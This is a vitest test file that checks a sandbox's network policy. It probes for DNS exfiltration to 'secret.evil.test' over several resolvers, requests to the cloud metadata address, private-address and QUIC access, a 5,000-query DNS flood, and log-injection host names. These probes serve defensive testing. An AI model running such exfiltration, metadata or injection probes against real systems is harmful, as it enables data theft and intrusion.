import { describe, expect, it } from 'vitest'
import { testUsers } from '../sandbox/fixture/bubblewrap.ts'
import {
  ASK,
  attackBundle,
  machineOfGroup,
  NAMES,
  NETWORK,
  put,
  runProbes,
} from '../sandbox/fixture/sandbox-attack.ts'
import { startUserMachine } from '../sandbox/fixture/machine-process.ts'

const BARE = 'env -i PATH=/usr/bin:/bin'
const NO_NAME = '3'
const NO_RECORD = '0'
const MALFORMED = '1'

/** Sends a datagram, and says why it cannot. */
const SEND =
  'use IO::Socket::INET; my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => $ARGV[0]) ' +
  'or die "refused: $!\\n"; $s->send("secret.evil.test") or die "refused: $!\\n"; ' +
  '$s->send("x") or die "refused: $!\\n"; print "sent\\n"'

const PROBES = {
  allowed: `${BARE} getent ahostsv4 x.allowed.test; ${BARE} curl -sS http://x.allowed.test/`,
  apex: `${BARE} curl -sS http://allowed.test/`,
  stub: 'getent hosts secret.evil.test',
  'udp 53': 'perl ask.pl udp 8.8.8.8 secret.evil.test',
  'tcp 53': 'perl ask.pl tcp 8.8.8.8 secret.evil.test',
  dot: `${BARE} curl -sS https://8.8.8.8:853/`,
  doh: `${BARE} curl -sS https://8.8.8.8/dns-query`,
  mdns: `perl -e '${SEND}' 224.0.0.251:5353`,
  llmnr: `perl -e '${SEND}' 224.0.0.252:5355`,
  types: 'for type in 16 255 64 65 12; do perl ask.pl udp 127.0.0.1 allowed.test $type; done',
  shapes: 'for shape in two loop long; do perl ask.pl udp 127.0.0.1 allowed.test 1 $shape; done',
  after: 'perl ask.pl udp 127.0.0.1 allowed.test',
  'raw name': `${BARE} curl -sS http://bad.allowed.test/`,
  'raw address': `${BARE} curl -sS http://203.0.114.7/`,
  'raw port': `${BARE} curl -sS http://x.allowed.test:81/`,
  'raw v6': `${BARE} curl -sS 'http://[2001:4860:4860::8888]/'`,
  metadata: `${BARE} curl -sS http://169.254.169.254/`,
  private: `${BARE} curl -sS http://10.1.2.3/`,
  quic: `perl -e '${SEND}' 203.0.114.7:443`,
  raw:
    "perl -e 'use Socket; for ([2,3,1],[2,3,17],[17,3,768],[2,1,132],[2,2,1]) { " +
    'print socket(my $s, $$_[0], $$_[1], $$_[2]) ? "open" : $!+0, "\\n" }\'; ping -c1 8.8.8.8',
} as const

describe.each(testUsers())('the network of a sandbox of %s', (user) => {
  const scene = machineOfGroup(
    user,
    (project) => attackBundle(project),
    async (machine) => {
      put(machine, 'ask.pl', ASK)
      const probes = await runProbes(machine, PROBES)
      return { probes, seen: await machine.look() }
    },
  )
  const denied = (): readonly string[] =>
    scene().found.seen.events.flatMap(({ point, decision }) => {
      const { request } = decision
      return decision.decision === 'deny' && request !== null && 'host' in request
        ? [`${point} ${request.host}:${request.port}`]
        : []
    })

  it('case 34: sends no packet of another protocol', () => {
    const { raw } = scene().found.probes
    expect(raw.output.split('\n').slice(0, 5)).toEqual(['1', '1', '1', '1', '1'])
    expect(raw.code).not.toBe(0)
  })

  it('case 58: lets no label of a foreign name out, by any resolver', () => {
    const { probes, seen } = scene().found
    expect(probes.allowed.output).toMatch(/^198\.1[89]\.[^]*yes$/)
    expect(probes.stub.code).toBe(2)
    expect([probes['udp 53'].output, probes['tcp 53'].output]).toEqual([NO_NAME, NO_NAME])
    for (const name of ['dot', 'doh'] as const) expect(probes[name].code).not.toBe(0)
    for (const name of ['mdns', 'llmnr'] as const) expect(probes[name].output).toMatch(/^refused: /)
    expect(denied()).toEqual(expect.arrayContaining(['capture 8.8.8.8:853', 'capture 8.8.8.8:443']))
    expect(denied().some((each) => each.startsWith('dns secret.evil.test'))).toBe(true)
    expect(new Set(seen.resolved)).toEqual(new Set(['x.allowed.test', 'allowed.test']))
  })

  it('case 59: has no record of other types, refuses malformed queries, and goes on', () => {
    const { probes } = scene().found
    expect(probes.types.output.split('\n')).toEqual(Array.from({ length: 5 }, () => NO_RECORD))
    expect(probes.shapes.output.split('\n')).toEqual([MALFORMED, MALFORMED, MALFORMED])
    expect(probes.after.output).toMatch(/^0 198\.1[89]\./)
  })

  it('case 62: decides a connection that knows no proxy as the proxy does', () => {
    const { probes, seen } = scene().found
    expect(probes.apex.output).toBe('yes')
    expect(new Set(seen.dialled)).toEqual(new Set(['203.0.114.7:80']))
    const names = ['raw name', 'raw address', 'raw port', 'raw v6', 'metadata', 'private'] as const
    for (const name of names) expect([name, probes[name].output]).not.toEqual([name, 'yes'])
    expect(denied()).toEqual(
      expect.arrayContaining([
        'capture 203.0.114.7:80',
        'capture x.allowed.test:81',
        'capture 2001:4860:4860::8888:80',
        'capture 169.254.169.254:80',
        'capture 10.1.2.3:80',
      ]),
    )
    expect(denied().some((each) => each.startsWith('dns bad.allowed.test'))).toBe(true)
  })

  it('case 33: sends no QUIC where only TCP is allowed', () => {
    expect(scene().found.probes.quic.output).toMatch(/^refused: /)
  })

  it('case 60: bounds the names of an allowed zone, and reuses no address', async () => {
    const { machine } = scene()
    const flood = String.raw`
use IO::Socket::INET;
my $s = IO::Socket::INET->new(Proto => 'udp', PeerAddr => '127.0.0.1:53');
my (%codes, %seen);
for my $i (1 .. 5_000) {
  $s->send(pack('nnnnnn', $i, 256, 1, 0, 0, 0)
    . join('', map { pack('C/a*', $_) } "n$i", 'allowed', 'test') . "\0" . pack('nn', 1, 1));
  $s->recv(my $r, 4096);
  my $code = unpack('n', substr($r, 2, 2)) & 15;
  $codes{$code}++;
  die "twice\n" if $code == 0 and $seen{substr($r, -4)}++;
}
print join(' ', map { "$_=$codes{$_}" } sort keys %codes), "\n";
`
    put(machine, 'flood.pl', flood)
    const before = (await machine.look()).resolved.length
    const { bounded } = await runProbes(machine, { bounded: 'perl flood.pl' })
    expect(bounded.output).toBe('0=4096 5=904')
    expect((await machine.look()).resolved).toHaveLength(before)
  })

  it('case 61: knows no address that stands for a name in another sandbox', async () => {
    const { machine } = scene()
    const get = `${BARE} getent ahostsv4 x.allowed.test | head -n1 | cut -d' ' -f1`
    const { address } = await runProbes(machine, { address: get })
    expect(address.output).toMatch(/^198\.1[89]\./)
    const { guess } = await runProbes(machine, {
      guess: `${BARE} curl -sS http://${address.output}/`,
    })
    expect(guess.output).toContain('"reason":"protected_address"')
  })

  it('case 99: closes a captured connection once the policy denies it', async () => {
    const machine = await startUserMachine(user, {
      bundle: (project) => attackBundle(project),
      names: NAMES,
    })
    const wait =
      'use IO::Socket::INET; $| = 1; my $s = IO::Socket::INET->new("x.allowed.test:80") or die; ' +
      'print "open\\n"; my $n = sysread($s, my $b, 10); print "closed\\n"; ' +
      'IO::Socket::INET->new("x.allowed.test:80") and print "again\\n"'
    const child = machine.start(['--', 'perl', '-e', wait])
    let text = ''
    child.stdout?.setEncoding('utf8').on('data', (part: string) => (text += part))
    await expect.poll(() => text).toBe('open\n')
    await expect.poll(async () => (await machine.look()).dialled).toHaveLength(1)
    const deny = ['deny', 'connect:tcp', 'x.allowed.test'] as const
    await machine.use({ ...attackBundle(machine.project, [], [...NETWORK, deny]), revision: 8 })
    await expect.poll(() => child.exitCode).not.toBeNull()
    expect(text).toBe('open\nclosed\n')
    expect((await machine.look()).dialled).toHaveLength(1)
  })

  it('case 105: writes hostile names into records as text', async () => {
    const { machine } = scene()
    const name = String.raw`a\"}\n{\"time\":1`
    await runProbes(machine, {
      dns: `perl ask.pl udp 127.0.0.1 "$(printf '${name}').evil.test"`,
      path: `curl -s --path-as-is 'http://evil.test/%0a{"x":1}'`,
      socks: `curl -s -x socks5h://127.0.0.1:3128 'http://evil.test%0a.allowed.test/'`,
    })
    const { records } = await machine.look()
    expect(records.length).toBeGreaterThan(0)
    const hosts = records.flatMap(({ decision: { request } }) =>
      request !== null && 'host' in request ? [request.host] : [],
    )
    expect(hosts.filter((host) => !/^[\w.:-]+$/.test(host))).toEqual([])
  })
})
